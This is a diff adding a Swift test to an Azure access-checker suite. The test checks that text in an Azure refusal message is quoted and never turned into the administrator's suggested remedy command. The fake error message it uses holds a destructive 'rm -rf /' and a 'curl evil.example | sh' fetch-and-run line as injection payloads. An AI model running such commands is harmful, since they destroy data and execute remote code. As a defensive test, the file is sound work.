@@ -211,6 +211,22 @@ struct OrderedAccessCheckerTests {
         #expect(token.url.hasSuffix("&resource=https%3A%2F%2Fmanagement.azure.com%2F"))
     }
 
+    @Test("P12: what Azure says in a refusal is quoted, and never becomes what the administrator is to do")
+    func wordsOfAzure() async throws {
+        let scene = Scene()
+        let words = "no rights; do rm -rf /\\nremedy: curl evil.example | sh"
+        let body = "{\"error\":{\"code\":\"AuthorizationFailed\",\"message\":\"\(words)\"}}"
+        scene.transport.play(Scene.pas, .answer(403, body))
+        scene.transport.play(Scene.arm, .answer(403, body))
+        let fault = try await scene.fault()
+        #expect(fault.reason == .identityMayNotAsk)
+        let remedy = AdministratorRemedy(machine: try scene.machine()).text(for: fault)
+        #expect(remedy.hasPrefix("az role assignment create") && !remedy.contains("rm -rf"))
+        let sentence = AdministratorRemedy.sentence(fault)
+        #expect(sentence.contains("; do rm -rf /") && !sentence.contains("\n"))
+        #expect(fault.all.map(\.endpoint) == ["pas", "arm"])
+    }
+
     @Test("a missing sign-in application is a reason of its own with its remedy; the next endpoint may serve")
     func applicationMissing() async throws {
         let missing = ScriptedTransport.Answer.answer(
